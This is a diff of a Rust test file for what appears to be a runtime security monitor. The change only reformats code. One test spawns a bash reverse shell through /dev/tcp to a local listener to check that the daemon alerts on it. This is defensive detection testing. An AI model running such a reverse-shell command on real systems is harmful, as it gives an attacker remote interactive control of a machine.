@@ -74,7 +74,9 @@ pub fn churn_2000_containers_rss_flat() -> Result<()> {
 }
 
 fn counters(status: &serde_json::Value) -> String {
-    ["events_received", "events_dropped", "events_lost", "findings"].map(|name| format!("{name} {}", status[name])).join(", ")
+    ["events_received", "events_dropped", "events_lost", "findings"]
+        .map(|name| format!("{name} {}", status[name]))
+        .join(", ")
 }
 
 /// Makes so many containers, each of which asks the kubelet's port (where nobody listens) once.
@@ -124,8 +126,12 @@ pub fn host_is_alert_only() -> Result<()> {
     let daemon = Daemon::start(&group, &Settings { host: true, ..Settings::mode("protect") })?;
     let peer = Peer::shell(TcpListener::bind("127.0.0.1:0")?, "", Duration::from_secs(30))?;
     let attack = format!("exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", peer.port);
-    let mut shell =
-        Command::new("bash").args(["-c", &attack]).stdin(Stdio::null()).stderr(Stdio::null()).spawn().context("bash")?;
+    let mut shell = Command::new("bash")
+        .args(["-c", &attack])
+        .stdin(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .context("bash")?;
     let found = daemon.await_row("reverse_shell alert of the host", ALERT_WAIT, |row| {
         is_alert(row, "reverse_shell", "host") && row["process"]["pid"] == shell.id()
     });
